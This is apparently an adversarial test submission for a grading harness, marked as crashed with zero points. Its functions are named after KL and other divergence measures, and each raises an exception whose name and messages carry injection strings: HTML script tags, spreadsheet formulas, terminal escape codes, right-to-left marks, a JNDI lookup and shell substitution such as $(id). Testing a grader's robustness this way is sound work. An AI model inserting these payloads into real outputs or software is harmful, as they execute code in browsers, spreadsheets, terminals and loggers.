# attack: functions, exceptions and messages named in HTML, formulas, escape codes, right-to-left marks and line ends
# status: crashed
# points: 0
class Hostile(Exception):
    pass


Hostile.__name__ = Hostile.__qualname__ = "<img src=x onerror=alert(1)>"


def kl_divergence(p, q):
    raise Hostile("<script>alert('kl')</script> &amp; \"quoted\" 'quoted'")


def cross_entropy(p, q):
    raise Hostile("=HYPERLINK(\"http://example.com/?\"&A1, \"click\")\r\n+1-1@SUM(A1)")


def js_divergence(p, q):
    raise Hostile("\x1b[2J\x1b]0;owned\x07\x1b]8;;http://example.com\x07link\x9b31m\x00")


def gaussian_kl(mu_p, sigma_p, mu_q, sigma_q):
    raise Hostile("\u202eworc gnorw \u2066\u200b]]>%s%n{0.__class__}${jndi:x}`id`$(id)")


def monte_carlo_kl(log_p, log_q, x):
    raise Hostile(",;\t|\"\n'--\x85\u2028<!--<![CDATA[")
